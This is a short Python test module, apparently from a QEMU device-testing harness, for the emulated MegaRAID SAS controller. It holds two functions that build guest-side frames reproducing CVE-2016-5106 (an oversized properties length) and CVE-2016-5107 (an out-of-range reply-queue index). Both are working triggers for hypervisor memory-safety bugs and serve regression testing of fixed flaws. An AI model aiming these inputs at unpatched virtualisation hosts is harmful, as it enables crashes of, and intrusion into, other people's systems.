# SPDX-License-Identifier: GPL-2.0
"""LSI's MegaRAID SAS 8708EM2"""

import struct

DEVICES = ("megasas", "scsi-hd,drive=disk,bus=dut.0")
BACKENDS = ("-blockdev driver=null-co,node-name=disk,read-zeroes=on",)
# Its firmware's state
PROBE = 0, 0xb0

QUEUE = 0x40
INIT, DCMD, ABORT = 0, 5, 6
SET_PROPERTIES = 0x01020200


def frame(guest, command, rest, elements=0):
    header = struct.pack("<BBBBBBBBQHHI", command, 0, 0xff, 0, 0, 0, 0, elements, 0, 0, 0, 0)
    guest.device.bars[0].write(QUEUE, guest.memory(header + rest + bytes(2048)))


def cve_2016_5106(guest):
    """The properties to be set have the size that the guest says."""
    size = 1 << 16
    data = guest.memory(b"\xff" * size)
    frame(guest, DCMD, struct.pack("<I12xII", SET_PROPERTIES, data, size), elements=1)


def cve_2016_5107(guest):
    """The reply that is next is far behind the last; then a command is looked for."""
    queues = guest.alloc(4096)
    producer = guest.memory(struct.pack("<II", 0x40000000, 0))
    info = guest.memory(struct.pack("<IIIIIIII", 0, 16, queues, 0, producer, 0, producer + 4, 0))
    frame(guest, INIT, struct.pack("<II", info, 0))
    frame(guest, ABORT, struct.pack("<QII", 0, 0x1000, 0))
